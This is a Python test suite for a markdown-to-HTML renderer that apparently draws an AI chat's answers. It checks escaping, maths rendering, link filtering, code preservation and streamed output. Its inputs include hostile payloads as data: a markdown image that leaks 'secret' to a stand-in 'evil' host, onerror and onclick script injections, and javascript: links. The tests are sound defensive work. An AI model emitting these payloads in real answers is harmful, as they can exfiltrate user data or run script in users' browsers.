from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ui.markdown import JOINER, GrowingHtml, plain, to_html


class Page(HTMLParser):
    """What a browser makes of HTML: the tags, the code, and all text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.code: list[str] = []
        self.text = ""
        self._inside = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs
        if tag == "code":
            self._inside = True
            self.code.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "code":
            self._inside = False

    def handle_data(self, data: str) -> None:
        self.text += data
        if self._inside:
            self.code[-1] += data


@pytest.mark.parametrize(
    ("said", "drawn"),
    [
        ("it costs $5 or $6", '<p dir="auto">it costs $5 or $6</p>\n'),
        (
            r"see \[1\], \[citation needed\] and \(optional\)",
            '<p dir="auto">see [1], [citation needed] and (optional)</p>\n',
        ),
        ("![x](http://evil/?q=secret)", '<p dir="auto">![x](http://evil/?q=secret)</p>\n'),
        (":red[alarm] :smile: :material/home:", '<p dir="auto">:red[alarm] :smile: :material/home:</p>\n'),
        ("<b onclick='x'>", "<p dir=\"auto\">&lt;b onclick='x'&gt;</p>\n"),
    ],
)
def test_what_only_looks_special_is_text(said: str, drawn: str) -> None:
    assert to_html(said) == drawn


@pytest.mark.parametrize(
    "said",
    [
        r"\(a^2\)",
        r"so \[a^2\].",
        "the area $a^2$ costs $5",
        "$$\na^2\n$$",
        "so\n\n$$a^2$$",
        "1. so\n   \\[\n   a^2\n   \\]",
        "> - \\[a^2\\]",
        r"| \(a^2\) |" + "\n|-|",
    ],
)
def test_mathematics_is_drawn_wherever_it_stands(said: str) -> None:
    html = to_html(said)
    assert html.count("<math ") == 1 and "<msup><mi>a</mi><mn>2</mn></msup>" in html
    assert "\\" not in html and "$$" not in html


@pytest.mark.parametrize(
    "tex",
    [
        r"\text{<img src=x onerror=alert(1)>}",
        r"\text{&lt;img src=x onerror=alert(1)&gt;}",
        r"\href{javascript:alert(1)}{x}",
        r"\color{red\"onclick=\"x}{y}",
        r"\style{background:url(//evil)}{x}",
    ],
)
def test_mathematics_holds_nothing_but_mathematics(tex: str) -> None:
    page = Page(to_html(f"\\({tex}\\)"))
    assert all(tag in ("p", "code") or tag[0] == "m" for tag in page.tags)
    assert {name for name, _ in page.attributes} <= {"dir", "display", "mathcolor"}


def test_links_go_only_where_links_may() -> None:
    html = to_html("[a](javascript:alert(1)) [b](data:text/html,x) [c](https://example.org)")
    assert html.count("<a ") == 1 and 'rel="noopener noreferrer"' in html


def code(text: str) -> list[str]:
    """All the code in `text`, as CommonMark has it where HTML is text."""
    return [
        token.content if token.type == "code_inline" else token.content.removesuffix("\n")
        for block in MarkdownIt("commonmark", {"html": False}).enable("table").parse(text)
        for token in [block, *(block.children or [])]
        if token.type in ("fence", "code_block", "code_inline")
    ]


PIECES = st.sampled_from(
    [
        "\n",
        "\n\n",
        "> ",
        "- ",
        "1. ",
        "    ",
        "  ",
        "```\n",
        "````py\n",
        "~~~\n",
        "`",
        "``",
        "| ",
        "|-|\n",
        "# ",
    ]
    + ["$x$", "$5", "${f%.log}", r"\[", r"\]", r"\((\d+)\)", "![i](u)", ":red[", ":smile:", "a ", "\\", "<b>"]
)


@settings(deadline=None, max_examples=500)  # the machine may be busy
@given(st.lists(PIECES, max_size=30).map("".join))
@example("- a\n\n  ```\n  \\[(\\w+)\\] \\((\\d+)\\)\n  ```")
@example("> ```\n> ${f%.log}\n> ```")
@example("so\n\n    ${f%.log} :red[x] ![y](z)")
@example("over `two\n${lines}` $5")
@example("<b>\n```\n")
@example("```py\n\n x = 1\n\n\n```")
@example("\\[\n\\]")
def test_code_stays_as_it_is_wherever_it_stands(said: str) -> None:
    assert Page(to_html(said)).code == code(said)


@settings(deadline=None)  # the machine may be busy
@given(st.sampled_from(["python", "bash", "html", "json", "c", "diff", "nosuch"]), st.text(max_size=60))
def test_colours_do_not_change_code(language: str, text: str) -> None:
    said = f"~~~~{language}\n{text}\n~~~~"
    assert Page(to_html(said)).code == code(said)


@settings(deadline=None)  # the machine may be busy
@given(st.lists(PIECES, max_size=20), st.data())
def test_a_growing_text_ends_as_the_whole(pieces: list[str], data: st.DataObject) -> None:
    growing = GrowingHtml()
    drawn: list[str] = []
    text = "".join(pieces)
    for end in [*sorted(data.draw(st.sets(st.integers(0, len(text))))), len(text)]:
        kept, added = growing.update(text[:end])
        drawn = drawn[:kept] + added
    assert Page("".join(drawn)).text.split() == Page(to_html(text)).text.split()


@settings(deadline=None)  # the machine may be busy
@given(st.text(alphabet="![]()`x\n ~|->", max_size=40))
def test_no_answer_ever_holds_an_image(said: str) -> None:
    assert "img" not in Page(to_html(said)).tags


@settings(deadline=None)  # the machine may be busy
@given(st.text(alphabet="*_`[]()!<>#$:\\abc -1.+~", max_size=40))
def test_plain_text_is_drawn_as_it_is(text: str) -> None:
    pieces = MarkdownIt().parse("x" + plain(text))[1].children or []
    assert {piece.type for piece in pieces} <= {"text", "text_special"}
    drawn = "".join(piece.content for piece in pieces).replace(JOINER, "")
    assert drawn == "x" + " ".join(text.split())
